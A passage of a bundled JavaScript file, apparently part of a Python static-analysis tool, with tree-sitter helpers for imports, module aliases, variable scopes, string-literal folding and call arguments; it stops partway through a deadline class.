"use strict";
const __bundle_url = require("node:url").pathToFileURL(__filename).href;
"use strict";
var __create = Object.create;
var __defProp = Object.defineProperty;
var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __getProtoOf = Object.getPrototypeOf;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __esm = (fn, res) => function __init() {
  return fn && (res = (0, fn[__getOwnPropNames(fn)[0]])(fn = 0)), res;
};
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};
var __export = (target, all) => {
  for (var name in all)
    __defProp(target, name, { get: all[name], enumerable: true });
};
var __copyProps = (to, from, except, desc) => {
  if (from && typeof from === "object" || typeof from === "function") {
    for (let key of __getOwnPropNames(from))
      if (!__hasOwnProp.call(to, key) && key !== except)
        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
  }
  return to;
};
var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
  // If the importer is in node compatibility mode or this is not an ESM
  // file that has been converted to a CommonJS file using a Babel-
  // compatible transform (i.e. "__esModule" has not been set), then set
  // "default" to the CommonJS "module.exports" for node compatibility.
  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
  mod
));
var __toCommonJS = (mod) => __copyProps(__defProp({}, "__esModule", { value: true }), mod);

// dist/python/syntax.js
function nodesOfKeyword(root, source, keyword, owners, tokenType) {
  const nodes = [];
  for (const match of source.matchAll(keyword)) {
    const token = root.descendantForIndex(match.index, match.index + match[0].length);
    if (token.type !== (tokenType ?? match[0]))
      continue;
    const owner = token.parent;
    if (owner && owners.has(owner.type))
      nodes.push(owner);
  }
  return nodes;
}
function withNormalisedIdentifiers(root, source) {
  if (!/[^\x00-\x7f]/.test(source))
    return void 0;
  const edits = [];
  for (const match of source.matchAll(NON_ASCII_WORD)) {
    const start = match.index;
    const end = start + match[0].length;
    const normalised = match[0].normalize("NFKC");
    if (normalised === match[0] || KEYWORDS.has(normalised))
      continue;
    const node = root.descendantForIndex(start, end);
    if (node.type !== "identifier" || node.startIndex !== start || node.endIndex !== end)
      continue;
    edits.push({ start, end, text: normalised });
  }
  if (edits.length === 0)
    return void 0;
  let result = "";
  let at = 0;
  for (const edit of edits) {
    result += source.slice(at, edit.start) + edit.text;
    at = edit.end;
  }
  return result + source.slice(at);
}
function inSourceOrder(a, b) {
  return a.startIndex - b.startIndex || b.endIndex - a.endIndex;
}
function statementOf(node) {
  let current = node;
  while (current) {
    if (SIMPLE_STATEMENTS.has(current.type))
      return current;
    if (COMPOUND_HEADERS.has(current.type)) {
      if ((current.type === "function_definition" || current.type === "class_definition") && current.parent?.type === "decorated_definition")
        return current.parent;
      return current;
    }
    current = current.parent;
  }
  return node;
}
function statementRows(statement) {
  const start = statement.startPosition.row;
  if (statement.type === "decorated_definition") {
    const definition = statement.childForFieldName("definition");
    const header = definition ? headerEnd(definition) : statement.endPosition.row;
    return [start, header];
  }
  if (COMPOUND_HEADERS.has(statement.type))
    return [start, headerEnd(statement)];
  return [start, statement.endPosition.row];
}
function headerEnd(compound) {
  const body = compound.childForFieldName("body") ?? compound.namedChildren.find((child) => child.type === "block");
  if (!body)
    return compound.endPosition.row;
  return Math.max(compound.startPosition.row, body.startPosition.row - (body.startPosition.row > compound.startPosition.row ? 1 : 0));
}
function enclosingFunction(node) {
  let current = node.parent;
  while (current) {
    if (current.type === "function_definition" || current.type === "lambda")
      return current;
    current = current.parent;
  }
  return null;
}
function enclosingClass(node) {
  let current = node.parent;
  while (current) {
    if (current.type === "class_definition")
      return current;
    current = current.parent;
  }
  return null;
}
function classOfMethod(fn) {
  const holder = fn.parent?.type === "decorated_definition" ? fn.parent : fn;
  const body = holder.parent;
  return body?.type === "block" && body.parent?.type === "class_definition" ? body.parent : null;
}
function methodOf(owner, name) {
  for (const member of owner.childForFieldName("body")?.namedChildren ?? []) {
    const definition = member.type === "decorated_definition" ? member.childForFieldName("definition") : member;
    if (definition?.type === "function_definition" && definition.childForFieldName("name")?.text === name)
      return definition;
  }
  return void 0;
}
function isDocstring(node) {
  const statement = node.parent;
  if (!statement || statement.type !== "expression_statement" || statement.namedChildCount !== 1)
    return false;
  const container = statement.parent;
  if (!container)
    return false;
  if (container.type !== "module" && container.type !== "block")
    return false;
  return container.firstNamedChild?.id === statement.id || isBareExpressionString(statement);
}
function isBareExpressionString(statement) {
  const only = statement.firstNamedChild;
  return !!only && (only.type === "string" || only.type === "concatenated_string");
}
var NON_ASCII_WORD, KEYWORDS, SIMPLE_STATEMENTS, COMPOUND_HEADERS;
var init_syntax = __esm({
  "dist/python/syntax.js"() {
    "use strict";
    NON_ASCII_WORD = /[\p{ID_Continue}]*[^\x00-\x7f][\p{ID_Continue}]*/gu;
    KEYWORDS = /* @__PURE__ */ new Set([
      "False",
      "None",
      "True",
      "and",
      "as",
      "assert",
      "async",
      "await",
      "break",
      "class",
      "continue",
      "def",
      "del",
      "elif",
      "else",
      "except",
      "finally",
      "for",
      "from",
      "global",
      "if",
      "import",
      "in",
      "is",
      "lambda",
      "nonlocal",
      "not",
      "or",
      "pass",
      "raise",
      "return",
      "try",
      "while",
      "with",
      "yield"
    ]);
    SIMPLE_STATEMENTS = /* @__PURE__ */ new Set([
      "expression_statement",
      "return_statement",
      "assert_statement",
      "delete_statement",
      "raise_statement",
      "import_statement",
      "import_from_statement",
      "future_import_statement",
      "global_statement",
      "nonlocal_statement",
      "pass_statement",
      "break_statement",
      "continue_statement",
      "print_statement",
      "exec_statement",
      "type_alias_statement"
    ]);
    COMPOUND_HEADERS = /* @__PURE__ */ new Set([
      "if_statement",
      "elif_clause",
      "while_statement",
      "for_statement",
      "with_statement",
      "try_statement",
      "except_clause",
      "except_group_clause",
      "function_definition",
      "class_definition",
      "decorated_definition",
      "match_statement",
      "case_clause"
    ]);
  }
});

// dist/python/module-aliases.js
function canonicalName(qualified) {
  if (!qualified.includes("six.moves") && !qualified.includes("vendor") && !qualified.includes(".packages.") && !qualified.startsWith("ansible.module_utils."))
    return qualified;
  const vendored = VENDORED.exec(qualified);
  const name = vendored ? vendored[1] : qualified;
  const moved = MOVES.exec(name);
  if (!moved)
    return name;
  return (SIX_MOVES[moved[1]] ?? moved[1]) + (moved[2] ?? "");
}
function movedWords(words2) {
  if (!words2.has("moves"))
    return [];
  return Object.keys(SIX_MOVES).filter((name) => words2.has(name)).flatMap((name) => SIX_MOVES[name].split("."));
}
var SIX_MOVES, VENDORED, MOVES;
var init_module_aliases = __esm({
  "dist/python/module-aliases.js"() {
    "use strict";
    SIX_MOVES = {
      cPickle: "pickle",
      builtins: "builtins",
      input: "input",
      urllib_parse: "urllib.parse",
      urllib_request: "urllib.request",
      urllib_error: "urllib.error",
      urllib_robotparser: "urllib.robotparser",
      http_client: "http.client",
      http_cookiejar: "http.cookiejar",
      http_cookies: "http.cookies",
      BaseHTTPServer: "http.server",
      SimpleHTTPServer: "http.server",
      CGIHTTPServer: "http.server",
      html_parser: "html.parser",
      html_entities: "html.entities",
      xmlrpc_client: "xmlrpc.client",
      xmlrpc_server: "xmlrpc.server",
      SimpleXMLRPCServer: "xmlrpc.server",
      shlex_quote: "shlex.quote",
      reload_module: "importlib.reload",
      reduce: "functools.reduce",
      getcwd: "os.getcwd",
      getcwdb: "os.getcwdb",
      getoutput: "subprocess.getoutput",
      cStringIO: "io.StringIO",
      StringIO: "io.StringIO",
      dbm_gnu: "dbm.gnu",
      email_mime_text: "email.mime.text",
      email_mime_multipart: "email.mime.multipart",
      email_mime_base: "email.mime.base",
      copyreg: "copyreg",
      configparser: "configparser",
      queue: "queue",
      socketserver: "socketserver"
    };
    VENDORED = /^(?:[\w.]+\._vendor|botocore\.vendored|requests\.packages|urllib3\.packages|ansible\.module_utils)\.(six|requests|urllib3|chardet|idna|certifi|yaml|six\.moves(?:\..+)?|(?:requests|urllib3|six)\..+)$/;
    MOVES = /^(?:[\w.]+\.)?six\.moves\.(\w+)(\..+)?$/;
  }
});

// dist/python/imports.js
function lastName(qualified) {
  return qualified.slice(qualified.lastIndexOf(".") + 1);
}
function collectImports(root, source) {
  const table = { aliases: /* @__PURE__ */ new Map(), names: [], statements: [] };
  for (const node of nodesOfKeyword(root, source, IMPORT_KEYWORD, IMPORT_STATEMENTS)) {
    if (node.type === "import_statement")
      addImport(node, table);
    else
      addFromImport(node, table);
  }
  return table;
}
function addImport(node, table) {
  const entries = [];
  for (const name of node.childrenForFieldName("name")) {
    if (name.type === "aliased_import") {
      const qualified = name.childForFieldName("name")?.text ?? "";
      const alias = name.childForFieldName("alias")?.text;
      if (alias)
        setAlias(table, alias, qualified);
      entries.push({ qualified, node: name });
    } else {
      const qualified = name.text;
      const head = qualified.split(".")[0];
      if (!table.aliases.has(head))
        table.aliases.set(head, head);
      entries.push({ qualified, node: name });
    }
  }
  record(table, node, entries);
}
function addFromImport(node, table) {
  const moduleNode = node.childForFieldName("module_name");
  const module2 = moduleNode?.text ?? "";
  const entries = [];
  for (const name of node.childrenForFieldName("name")) {
    if (name.type === "aliased_import") {
      const imported = name.childForFieldName("name")?.text ?? "";
      const alias = name.childForFieldName("alias")?.text ?? imported;
      const qualified = joinModule(module2, imported);
      setAlias(table, alias, qualified);
      entries.push({ qualified, node: name });
    } else {
      const qualified = joinModule(module2, name.text);
      setAlias(table, name.text, qualified);
      entries.push({ qualified, node: name });
    }
  }
  if (entries.length === 0 && moduleNode)
    entries.push({ qualified: module2, node: moduleNode });
  record(table, node, entries);
}
function setAlias(table, alias, qualified) {
  if (!table.aliases.has(alias))
    table.aliases.set(alias, canonicalName(qualified));
}
function joinModule(module2, name) {
  return module2.endsWith(".") ? module2 + name : `${module2}.${name}`;
}
function record(table, node, imported) {
  const entries = imported.map((entry) => ({ ...entry, qualified: canonicalName(entry.qualified) }));
  table.statements.push({ node, names: entries });
  for (const entry of entries)
    table.names.push(entry.qualified);
}
var IMPORT_KEYWORD, IMPORT_STATEMENTS;
var init_imports = __esm({
  "dist/python/imports.js"() {
    "use strict";
    init_syntax();
    init_module_aliases();
    IMPORT_KEYWORD = /\bimport\b/g;
    IMPORT_STATEMENTS = /* @__PURE__ */ new Set(["import_statement", "import_from_statement"]);
  }
});

// dist/python/scope.js
function contains(outer, inner) {
  return inner.startIndex >= outer.startIndex && inner.endIndex <= outer.endIndex;
}
function alwaysRunsBefore(binding, use) {
  if (binding.kind === "parameter")
    return true;
  let statement = binding.target;
  while (statement?.parent && statement.parent.type !== "block" && statement.parent.type !== "module")
    statement = statement.parent;
  const block = statement?.parent;
  return !!block && contains(block, use);
}
function buildScope(owner) {
  const tree = owner.tree;
  let scopes = scopesOfTree.get(tree);
  if (!scopes) {
    scopes = /* @__PURE__ */ new Map();
    scopesOfTree.set(tree, scopes);
  }
  let scope = scopes.get(owner.id);
  if (scope)
    return scope;
  if (owner.type === "module")
    collectModuleScope(owner, scopes);
  else if (owner.type === "function_definition" || owner.type === "lambda")
    collectFunctionScopes(owner, scopes);
  scope = scopes.get(owner.id) ?? new Scope(owner);
  scopes.set(owner.id, scope);
  return scope;
}
function collectModuleScope(root, scopes) {
  const moduleScope = new Scope(root);
  scopes.set(root.id, moduleScope);
  for (const statement of root.namedChildren) {
    const definition = statement.type === "decorated_definition" ? statement.childForFieldName("definition") : statement;
    if (BINDS_NOTHING.has(statement.type))
      continue;
    if (definition && NESTED_SCOPES.has(definition.type)) {
      const name = definition.childForFieldName("name");
      if (name)
        moduleScope.add(name.text, { kind: "other", target: name, value: definition, at: definition.startIndex });
      continue;
    }
    scanBindings(statement.descendantsOfType(SCOPE_QUERY), { scope: moduleScope, bodyStart: -1, end: Infinity }, scopes);
  }
}
function collectFunctionScopes(owner, scopes) {
  const nodes = owner.descendantsOfType(SCOPE_QUERY);
  scanBindings(nodes[0]?.id === owner.id ? nodes : [owner, ...nodes], null, scopes);
}
function scanBindings(nodes, outer, scopes) {
  const open = outer ? [outer] : [];
  for (const node of nodes) {
    const start = node.startIndex;
    while (open.length > 0 && start >= open[open.length - 1].end)
      open.pop();
    const current = open.length > 0 ? open[open.length - 1] : void 0;
    const scope = current && start >= current.bodyStart ? current.scope : null;
    if (NESTED_SCOPES.has(node.type)) {
      if (scope && node.type !== "lambda") {
        const name = node.childForFieldName("name");
        if (name)
          scope.add(name.text, { kind: "other", target: name, value: node, at: start });
      }
      if (node.type === "class_definition") {
        open.push({ scope: null, bodyStart: Infinity, end: node.endIndex });
      } else {
        const own = new Scope(node);
        addParameters(own, node);
        scopes.set(node.id, own);
        const body = node.childForFieldName("body");
        open.push({ scope: own, bodyStart: body ? body.startIndex : Infinity, end: node.endIndex });
      }
      continue;
    }
    if (scope)
      bindForm(scope, node);
  }
}
function bindForm(scope, node) {
  switch (node.type) {
    case "assignment": {
      const right = node.childForFieldName("right");
      const left = node.childForFieldName("left");
      if (left)
        bindTarget(scope, left, right?.type === "assignment" ? innermostValue(right) : right, node.startIndex, "assign");
      break;
    }
    case "augmented_assignment": {
      const left = node.childForFieldName("left");
      const operator = node.childForFieldName("operator")?.type;
      if (left?.type === "identifier") {
        scope.add(left.text, { kind: operator === "+=" ? "augment" : "other", target: left, value: node.childForFieldName("right"), at: node.startIndex });
      }
      break;
    }
    case "named_expression": {
      const name = node.childForFieldName("name");
      if (name)
        scope.add(name.text, { kind: "walrus", target: name, value: node.childForFieldName("value"), at: node.startIndex });
      break;
    }
    case "for_statement": {
      const left = node.childForFieldName("left");
      if (left)
        bindTarget(scope, left, node.childForFieldName("right"), node.startIndex, "loop");
      break;
    }
    case "with_item": {
      const value = node.childForFieldName("value");
      if (value?.type === "as_pattern") {
        const target = value.childForFieldName("alias")?.firstNamedChild ?? value.childForFieldName("alias");
        if (target)
          bindTarget(scope, target, value.firstNamedChild, node.startIndex, "with");
      }
      break;
    }
    case "except_clause": {
      const alias = node.descendantsOfType("as_pattern_target")[0]?.firstNamedChild;
      if (alias?.type === "identifier")
        scope.add(alias.text, { kind: "except", target: alias, value: null, at: node.startIndex });
      break;
    }
    default:
      break;
  }
}
function innermostValue(assignment) {
  let current = assignment;
  while (current?.type === "assignment")
    current = current.childForFieldName("right");
  return current;
}
function bindTarget(scope, target, value, at, kind) {
  if (target.type === "identifier") {
    scope.add(target.text, { kind: kind === "assign" ? "assign" : kind, target, value, at });
    return;
  }
  if (["pattern_list", "tuple_pattern", "list_pattern", "tuple", "list", "expression_list"].includes(target.type)) {
    const items = target.namedChildren;
    const values = value && (value.type === "tuple" || value.type === "list" || value.type === "expression_list") && value.namedChildCount === items.length ? value.namedChildren : null;
    items.forEach((item, index) => bindTarget(scope, item, values ? values[index] : value, at, values && kind === "assign" ? "assign" : kind === "assign" ? "unpack" : kind));
  }
}
function addParameters(scope, owner) {
  const parameters = owner.childForFieldName("parameters");
  if (!parameters)
    return;
  for (const parameter of parameters.namedChildren) {
    const name = parameterName(parameter);
    if (name)
      scope.add(name.text, { kind: "parameter", target: name, value: parameter, at: -1 });
  }
}
function parameterName(parameter) {
  if (parameter.type === "identifier")
    return parameter;
  if (parameter.type === "typed_parameter")
    return parameter.firstNamedChild?.type === "identifier" ? parameter.firstNamedChild : parameter.firstNamedChild?.firstNamedChild ?? null;
  if (parameter.type === "default_parameter" || parameter.type === "typed_default_parameter")
    return parameter.childForFieldName("name");
  if (parameter.type === "list_splat_pattern" || parameter.type === "dictionary_splat_pattern")
    return parameter.firstNamedChild;
  return null;
}
var Scope, NESTED_SCOPES, SCOPE_QUERY, scopesOfTree, BINDS_NOTHING;
var init_scope = __esm({
  "dist/python/scope.js"() {
    "use strict";
    Scope = class {
      node;
      bindings = /* @__PURE__ */ new Map();
      constructor(node) {
        this.node = node;
      }
      add(name, binding) {
        const list = this.bindings.get(name);
        if (list)
          list.push(binding);
        else
          this.bindings.set(name, [binding]);
      }
      /**
       * The expressions that `name` holds at byte `position`: the last plain assignment before it plus any `+=` parts
       * after that assignment. Undefined when another kind of binding (parameter, loop, unpacking…) decides it.
       */
      valuesBefore(name, position) {
        const bindings = this.bindings.get(name);
        if (!bindings)
          return void 0;
        const before = bindings.filter((binding) => binding.at < position);
        const chosen = before.length > 0 ? before : bindings.length === 1 ? bindings : [];
        let start = -1;
        for (let index = chosen.length - 1; index >= 0; index--) {
          const kind = chosen[index].kind;
          if (kind === "assign" || kind === "walrus") {
            start = index;
            break;
          }
          if (kind !== "augment")
            return void 0;
        }
        if (start < 0)
          return void 0;
        const values = [];
        for (const binding of chosen.slice(start))
          if (binding.value)
            values.push(binding.value);
        return values;
      }
      /**
       * Every binding of `name` that may decide its value at `use`, branch-aware: walking back from the use, bindings
       * are collected until one that always runs before the use (its statement is in a block enclosing the use) and
       * replaces the value (not `+=`). `if a: x = p else: x = q` → both. A binding whose own value holds the use
       * (`x = x + 1`) is skipped; a use before every binding (loops, closures) sees them all.
       */
      reachingBindings(name, use) {
        const all = (this.bindings.get(name) ?? []).filter((binding) => !(binding.value && contains(binding.value, use)));
        const before = all.filter((binding) => binding.at < use.startIndex).sort((a, b) => a.at - b.at);
        if (before.length === 0)
          return all;
        const reaching = [];
        for (let index = before.length - 1; index >= 0; index--) {
          const binding = before[index];
          reaching.unshift(binding);
          if (binding.kind !== "augment" && binding.kind !== "other" && alwaysRunsBefore(binding, use))
            break;
        }
        return reaching;
      }
    };
    NESTED_SCOPES = /* @__PURE__ */ new Set(["function_definition", "class_definition", "lambda"]);
    SCOPE_QUERY = ["assignment", "augmented_assignment", "named_expression", "for_statement", "with_item", "except_clause", ...NESTED_SCOPES];
    scopesOfTree = /* @__PURE__ */ new WeakMap();
    BINDS_NOTHING = /* @__PURE__ */ new Set([
      "import_statement",
      "import_from_statement",
      "future_import_statement",
      "comment",
      "pass_statement",
      "global_statement",
      "nonlocal_statement",
      "break_statement",
      "continue_statement"
    ]);
  }
});

// dist/python/literals.js
function readStringLiteral(node) {
  const start = node.firstChild;
  const opener = start?.type === "string_start" ? start.text : '"';
  const prefix = opener.replace(/["']+$/, "").toLowerCase();
  const raw = prefix.includes("r");
  let value = "";
  for (const child of node.namedChildren) {
    if (child.type === "string_content")
      value += raw ? child.text : decodeEscapes(child.text);
  }
  return { prefix, value, isBytes: prefix.includes("b"), isFormat: prefix.includes("f") };
}
function decodeEscapes(text) {
  if (!text.includes("\\"))
    return text;
  return text.replace(/\\(x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|[0-7]{1,3}|[\s\S])/g, (whole, code) => {
    const first = code[0];
    if (first === "x" || first === "u" || first === "U")
      return String.fromCodePoint(parseInt(code.slice(1), 16));
    if (/^[0-7]+$/.test(code))
      return String.fromCodePoint(parseInt(code, 8));
    return SIMPLE_ESCAPES[code] ?? whole;
  });
}
function foldString(node, resolve, depth = 0) {
  if (depth > MAX_DEPTH)
    return null;
  switch (node.type) {
    case "string":
      return foldStringNode(node, resolve, depth);
    case "concatenated_string":
      return join(node.namedChildren.map((part) => foldString(part, resolve, depth + 1) ?? opaque(part)));
    case "parenthesized_expression": {
      const inner = node.firstNamedChild;
      return inner ? foldString(inner, resolve, depth + 1) : null;
    }
    case "binary_operator":
      return foldBinary(node, resolve, depth);
    case "call":
      return foldStringMethod(node, resolve, depth);
    case "identifier": {
      const values = resolve?.(node);
      if (!values || values.length === 0)
        return null;
      const parts = values.map((value) => foldString(value, resolve, depth + 1));
      if (parts.some((part) => part === null))
        return null;
      return join(parts);
    }
    default:
      return null;
  }
}
function opaque(node) {
  return { text: HOLE, constant: false, dynamic: [node] };
}
function join(parts) {
  return {
    text: parts.map((part) => part.text).join(""),
    constant: parts.every((part) => part.constant),
    dynamic: parts.flatMap((part) => part.dynamic)
  };
}
function foldStringNode(node, resolve, depth) {
  const literal = readStringLiteral(node);
  if (!literal.isFormat)
    return { text: literal.value, constant: true, dynamic: [] };
  const raw = literal.prefix.includes("r");
  const parts = [];
  for (const child of node.namedChildren) {
    if (child.type === "string_content") {
      parts.push({ text: (raw ? child.text : decodeEscapes(child.text)).replace(/\{\{/g, "{").replace(/\}\}/g, "}"), constant: true, dynamic: [] });
    } else if (child.type === "interpolation") {
      const expression = child.childForFieldName("expression") ?? child.firstNamedChild;
      if (!expression)
        continue;
      const folded = foldString(expression, resolve, depth + 1) ?? numberShape(expression);
      parts.push(folded ?? opaque(expression));
    }
  }
  return join(parts);
}
function numberShape(node) {
  const value = constantValue(node);
  if (value === void 0 || typeof value === "object")
    return null;
  return { text: String(value), constant: true, dynamic: [] };
}
function foldBinary(node, resolve, depth) {
  const operator = node.childForFieldName("operator")?.type;
  const left = node.childForFieldName("left");
  const right = node.childForFieldName("right");
  if (!left || !right)
    return null;
  if (operator === "+") {
    const leftShape = foldString(left, resolve, depth + 1);
    const rightShape = foldString(right, resolve, depth + 1);
    if (!leftShape && !rightShape)
      return null;
    return join([leftShape ?? opaque(left), rightShape ?? opaque(right)]);
  }
  if (operator === "%") {
    const template = foldString(left, resolve, depth + 1);
    if (!template)
      return null;
    const args = right.type === "tuple" || right.type === "parenthesized_expression" ? right.namedChildren : [right];
    return substitute(template, /%(?:\([^)]*\))?[-#0 +]*(?:\*|\d+)?(?:\.(?:\*|\d+))?[sdrifeEgGxXocab%]/g, args, resolve, depth, "%%");
  }
  return null;
}
function foldStringMethod(node, resolve, depth) {
  const callee = node.childForFieldName("function");
  if (callee?.type !== "attribute")
    return null;
  const method = callee.childForFieldName("attribute")?.text;
  const receiver = callee.childForFieldName("object");
  const args = node.childForFieldName("arguments")?.namedChildren ?? [];
  if (!receiver)
    return null;
  if (method === "format") {
    const template = foldString(receiver, resolve, depth + 1);
    if (!template)
      return null;
    return substitute(template, /\{[^{}]*\}/g, args.map((arg) => arg.type === "keyword_argument" ? arg.childForFieldName("value") ?? arg : arg), resolve, depth, null);
  }
  if (method === "join") {
    const separator = foldString(receiver, resolve, depth + 1);
    const iterable = args[0];
    if (!separator || !iterable)
      return null;
    if (iterable.type === "list" || iterable.type === "tuple") {
      const items = iterable.namedChildren.map((item) => foldString(item, resolve, depth + 1) ?? opaque(item));
      const pieces = [];
      items.forEach((item, index) => {
        if (index > 0)
          pieces.push(separator);
        pieces.push(item);
      });
      return join(pieces);
    }
    return join([opaque(iterable)]);
  }
  if (["strip", "lstrip", "rstrip", "lower", "upper", "replace", "encode", "decode"].includes(method ?? "")) {
    const base = foldString(receiver, resolve, depth + 1);
    if (!base)
      return null;
    const extra = args.map((arg) => foldString(arg, resolve, depth + 1) ?? opaque(arg));
    return { text: base.text, constant: base.constant && extra.every((part) => part.constant), dynamic: [...base.dynamic, ...extra.flatMap((part) => part.dynamic)] };
  }
  return null;
}
function substitute(template, placeholder, args, resolve, depth, literalEscape) {
  const argShapes = args.map((arg) => foldString(arg, resolve, depth + 1) ?? numberShape(arg) ?? opaque(arg));
  const dynamic = [...template.dynamic];
  let next = 0;
  let constant = template.constant;
  const text = template.text.replace(placeholder, (match) => {
    if (literalEscape && match === literalEscape)
      return "%";
    const shape = argShapes[next++];
    if (!shape) {
      constant = false;
      return HOLE;
    }
    if (!shape.constant) {
      constant = false;
      dynamic.push(...shape.dynamic);
    }
    return shape.text;
  });
  for (const shape of argShapes.slice(next)) {
    if (!shape.constant) {
      constant = false;
      dynamic.push(...shape.dynamic);
    }
  }
  return { text, constant, dynamic };
}
function constantValue(node, resolve, depth = 0) {
  if (depth > MAX_DEPTH)
    return void 0;
  switch (node.type) {
    case "integer": {
      const text = node.text.replace(/_/g, "").replace(/[lL]$/, "");
      if (/^0[oO]/.test(text))
        return parseInt(text.slice(2), 8);
      if (/^0[xX]/.test(text))
        return parseInt(text.slice(2), 16);
      if (/^0[bB]/.test(text))
        return parseInt(text.slice(2), 2);
      if (/^0\d+$/.test(text))
        return parseInt(text, 8);
      return Number(text);
    }
    case "float":
      return Number(node.text.replace(/_/g, ""));
    case "true":
      return true;
    case "false":
      return false;
    case "none":
      return null;
    case "string":
    case "concatenated_string": {
      const shape = foldString(node, resolve, depth + 1);
      return shape?.constant ? shape.text : void 0;
    }
    case "parenthesized_expression": {
      const inner = node.firstNamedChild;
      return inner ? constantValue(inner, resolve, depth + 1) : void 0;
    }
    case "unary_operator": {
      const operand = node.childForFieldName("argument");
      const value = operand ? constantValue(operand, resolve, depth + 1) : void 0;
      if (typeof value !== "number")
        return void 0;
      const operator = node.childForFieldName("operator")?.type;
      return operator === "-" ? -value : operator === "~" ? ~value : value;
    }
    case "binary_operator": {
      const left = node.childForFieldName("left");
      const right = node.childForFieldName("right");
      const operator = node.childForFieldName("operator")?.type;
      if (!left || !right)
        return void 0;
      const a = constantValue(left, resolve, depth + 1);
      const b = constantValue(right, resolve, depth + 1);
      if (typeof a === "number" && typeof b === "number") {
        switch (operator) {
          case "|":
            return a | b;
          case "&":
            return a & b;
          case "^":
            return a ^ b;
          case "+":
            return a + b;
          case "-":
            return a - b;
          case "*":
            return a * b;
          case "<<":
            return a << b;
          case "**":
            return a ** b;
          default:
            return void 0;
        }
      }
      const shape = foldString(node, resolve, depth + 1);
      return shape?.constant ? shape.text : void 0;
    }
    case "tuple":
    case "list": {
      const values = node.namedChildren.map((item) => constantValue(item, resolve, depth + 1));
      return values.every((value) => value !== void 0) ? values : void 0;
    }
    case "identifier": {
      const values = resolve?.(node);
      if (!values || values.length !== 1)
        return void 0;
      return constantValue(values[0], resolve, depth + 1);
    }
    case "call": {
      const shape = foldString(node, resolve, depth + 1);
      return shape?.constant ? shape.text : void 0;
    }
    default:
      return void 0;
  }
}
var HOLE, MAX_DEPTH, SIMPLE_ESCAPES;
var init_literals = __esm({
  "dist/python/literals.js"() {
    "use strict";
    HOLE = "\uFFFC";
    MAX_DEPTH = 12;
    SIMPLE_ESCAPES = { n: "\n", t: "	", r: "\r", "\\": "\\", "'": "'", '"': '"', "0": "\0", a: "\x07", b: "\b", f: "\f", v: "\v", "\n": "" };
  }
});

// dist/python/arguments.js
function argumentList(call) {
  const args = call.childForFieldName("arguments");
  if (!args)
    return [];
  if (args.type === "generator_expression")
    return [args];
  return args.namedChildren.filter((child) => child.type !== "comment");
}
function bindArguments(call) {
  const bound = { positional: [], keywords: [], opaqueKeywords: false };
  for (const arg of argumentList(call)) {
    if (arg.type === "keyword_argument") {
      const name = arg.childForFieldName("name")?.text;
      const value = arg.childForFieldName("value");
      if (name && value)
        bound.keywords.push({ name, value, node: arg });
    } else if (arg.type === "list_splat") {
      const elements = literalElements(arg.firstNamedChild);
      if (elements)
        bound.positional.push(...elements);
      else
        bound.positional.push(arg);
    } else if (arg.type === "dictionary_splat") {
      const keywords = literalKeywords(arg.firstNamedChild);
      if (keywords)
        bound.keywords.push(...keywords);
      else
        bound.opaqueKeywords = true;
    } else {
      bound.positional.push(arg);
    }
  }
  return bound;
}
function unparenthesised(node) {
  let current = node;
  while (current?.type === "parenthesized_expression")
    current = current.firstNamedChild;
  return current;
}
function literalElements(node) {
  const sequence = unparenthesised(node);
  if (!sequence || !LITERAL_SEQUENCES.has(sequence.type))
    return void 0;
  const elements = sequence.namedChildren.filter((child) => child.type !== "comment");
  return elements.some((element) => element.type === "list_splat") ? void 0 : elements;
}
function literalKeywords(node) {
  const mapping = unparenthesised(node);
  if (mapping?.type === "call" && mapping.childForFieldName("function")?.text === "dict") {
    const inner = bindArguments(mapping);
    return inner.positional.length === 0 && !inner.opaqueKeywords ? inner.keywords : void 0;
  }
  if (mapping?.type !== "dictionary")
    return void 0;
  const keywords = [];
  for (const entry of mapping.namedChildren) {
    if (entry.type === "comment")
      continue;
    if (entry.type !== "pair")
      return void 0;
    const key = entry.childForFieldName("key");
    const value = entry.childForFieldName("value");
    if (key?.type !== "string" || !value || key.namedChildren.some((child) => child.type === "interpolation"))
      return void 0;
    const literal = readStringLiteral(key);
    if (literal.isBytes)
      return void 0;
    keywords.push({ name: literal.value, value, node: entry });
  }
  return keywords;
}
function positionalArguments(call) {
  return bindArguments(call).positional;
}
function keywordArgument(call, name) {
  return boundKeyword(call, name)?.value;
}
function keywordArgumentNode(call, name) {
  return boundKeyword(call, name)?.node;
}
function boundKeyword(call, name) {
  return bindArguments(call).keywords.find((keyword) => keyword.name === name);
}
function argument(call, name, position) {
  const bound = bindArguments(call);
  if (name) {
    const byName2 = bound.keywords.find((keyword) => keyword.name === name);
    if (byName2)
      return byName2.value;
  }
  if (position === null)
    return void 0;
  for (const [index, arg] of bound.positional.entries()) {
    if (arg.type === "list_splat")
      return void 0;
    if (index === position)
      return arg;
  }
  return void 0;
}
function possibleArgument(call, name, position) {
  const bound = argument(call, name, position);
  if (bound || position === null)
    return bound;
  return bindArguments(call).positional.find((arg, index) => index <= position && arg.type === "list_splat");
}
function keywordNames(call) {
  return bindArguments(call).keywords.map((keyword) => keyword.name);
}
function hasKeywordSplat(call) {
  return bindArguments(call).opaqueKeywords;
}
function hasKeyword(call, name) {
  return boundKeyword(call, name) !== void 0;
}
var LITERAL_SEQUENCES;
var init_arguments = __esm({
  "dist/python/arguments.js"() {
    "use strict";
    init_literals();
    LITERAL_SEQUENCES = /* @__PURE__ */ new Set(["list", "tuple"]);
  }
});

// dist/python/deadline.js
var OutOfTime, CHECK_EVERY, Deadline;
var init_deadline = __esm({
  "dist/python/deadline.js"() {
    "use strict";
    OutOfTime = class extends Error {
      constructor() {
        super("the analysis ran out of time");
      }
    };
    CHECK_EVERY = 64;
    Deadline = class _Deadline {
      at;
      interrupted;
      /** No deadline: `check` never throws. */
      static NONE = new _Deadline(void 0);
      calls = 0;
      /**
       * `at`: a `performance.now()` time, or undefined for none. `interrupted`: whether the review is being stopped (a
